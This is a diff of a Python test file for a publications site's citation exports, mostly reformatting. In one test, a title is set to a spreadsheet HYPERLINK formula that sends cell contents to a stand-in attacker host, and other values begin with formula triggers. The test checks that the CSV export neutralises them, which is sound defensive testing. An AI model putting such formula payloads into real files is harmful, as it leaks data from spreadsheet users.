@@ -1,4 +1,5 @@
 """BibTeX, CSL-JSON, RIS and CSV exports: what goes out comes back the same."""
+
 import json
 
 import bibtexparser
@@ -13,7 +14,13 @@ from publications.models import Publication
 from tests.factories import make_person, make_publication, make_venue
 
 from .exports_helpers import (
-    SPECIAL_AUTHORS, SPECIAL_TITLE, expected, make_special_publication, public_publications, read_csv, read_ris,
+    SPECIAL_AUTHORS,
+    SPECIAL_TITLE,
+    expected,
+    make_special_publication,
+    public_publications,
+    read_csv,
+    read_ris,
     ris_name,
 )
 
@@ -38,12 +45,15 @@ def download(client, url, params=None):
 # --- what a download looks like ----------------------------------------------------------------
 
 
-@pytest.mark.parametrize("fmt, content_type", [
-    ("bib", "application/x-bibtex"),
-    ("json", "application/vnd.citationstyles.csl+json"),
-    ("ris", "application/x-research-info-systems"),
-    ("csv", "text/csv"),
-])
+@pytest.mark.parametrize(
+    "fmt, content_type",
+    [
+        ("bib", "application/x-bibtex"),
+        ("json", "application/vnd.citationstyles.csl+json"),
+        ("ris", "application/x-research-info-systems"),
+        ("csv", "text/csv"),
+    ],
+)
 def test_list_exports_are_downloads_with_their_content_type_and_a_file_name(client, lab, fmt, content_type):
     for response in (download(client, "/publications/", {"format": fmt}), download(client, f"/publications.{fmt}")):
         assert response["Content-Type"].startswith(content_type)
@@ -177,7 +187,7 @@ def test_csv_export_parses_back_with_the_same_publications(client, lab):
         title, authors, equal, venue, year = stored[row["key"]]
         assert row["title"] == title
         assert row["authors"].split("; ") == authors
-        assert row["equal contribution"] == "; ".join(a for a, e in zip(authors, equal) if e)
+        assert row["equal contribution"] == "; ".join(a for a, e in zip(authors, equal, strict=True) if e)
         assert row["venue"] == venue
         assert row["year"] == str(year)
     special = next(row for row in rows if row["key"] == "nunez2024braces")
@@ -189,7 +199,9 @@ def test_csv_export_parses_back_with_the_same_publications(client, lab):
 
 def test_a_filtered_list_exports_only_its_matches(client, lab):
     year = Publication.objects.public().values_list("year", flat=True).first()
-    keys = {r["key"] for r in read_csv(download(client, "/publications/", {"year": year, "format": "csv"}).content.decode())}
+    keys = {
+        r["key"] for r in read_csv(download(client, "/publications/", {"year": year, "format": "csv"}).content.decode())
+    }
     assert keys == set(Publication.objects.public().filter(year=year).values_list("key", flat=True))
     items = json.loads(download(client, "/publications.json", {"year": year}).content)
     assert {i["id"] for i in items} == keys
@@ -234,14 +246,17 @@ def test_bibtex_keys_are_the_stored_keys_so_they_stay_stable_as_the_list_grows(c
 # --- names ---------------------------------------------------------------------------------------------
 
 
-@pytest.mark.parametrize("name, csl", [
-    ("Ada Lovelace", {"given": "Ada", "family": "Lovelace"}),
-    ("Ludwig van Beethoven", {"given": "Ludwig", "family": "van Beethoven"}),
-    ("Hye-jin Østergaard", {"given": "Hye-jin", "family": "Østergaard"}),
-    ("赵汉宇", {"literal": "赵汉宇"}),
-    ("Plato", {"literal": "Plato"}),
-    ("Ada Abara 37", {"literal": "Ada Abara 37"}),
-])
+@pytest.mark.parametrize(
+    "name, csl",
+    [
+        ("Ada Lovelace", {"given": "Ada", "family": "Lovelace"}),
+        ("Ludwig van Beethoven", {"given": "Ludwig", "family": "van Beethoven"}),
+        ("Hye-jin Østergaard", {"given": "Hye-jin", "family": "Østergaard"}),
+        ("赵汉宇", {"literal": "赵汉宇"}),
+        ("Plato", {"literal": "Plato"}),
+        ("Ada Abara 37", {"literal": "Ada Abara 37"}),
+    ],
+)
 def test_names_split_for_csl_and_join_back(name, csl):
     assert split_name(name) == csl
     assert joined_name(split_name(name)) == name
@@ -250,8 +265,12 @@ def test_names_split_for_csl_and_join_back(name, csl):
 def test_csv_cells_that_a_spreadsheet_would_run_as_formulas_are_neutralised(client, db):
     venue = make_venue("=CMD", "@SUM(A1:A9)")
     make_publication(
-        title='=HYPERLINK("https://evil.example/?"&A1,"Click")', authors=["+1 Attacker", "-2 Other", "@Third"],
-        venue=venue, note="\t=1+1", key="formula-paper", doi="10.1/plain",
+        title='=HYPERLINK("https://evil.example/?"&A1,"Click")',
+        authors=["+1 Attacker", "-2 Other", "@Third"],
+        venue=venue,
+        note="\t=1+1",
+        key="formula-paper",
+        doi="10.1/plain",
     )
     import csv
     import io
@@ -262,5 +281,5 @@ def test_csv_cells_that_a_spreadsheet_would_run_as_formulas_are_neutralised(clie
     (row,) = rows
     for column in ("title", "authors", "venue", "venue acronym", "note"):
         assert row[column][0] not in "=+-@\t\r", (column, row[column])
-    assert row["title"] == "'=HYPERLINK(\"https://evil.example/?\"&A1,\"Click\")"  # the text is kept, shown as text
+    assert row["title"] == '\'=HYPERLINK("https://evil.example/?"&A1,"Click")'  # the text is kept, shown as text
     assert row["doi"] == "10.1/plain" and row["key"] == "formula-paper"
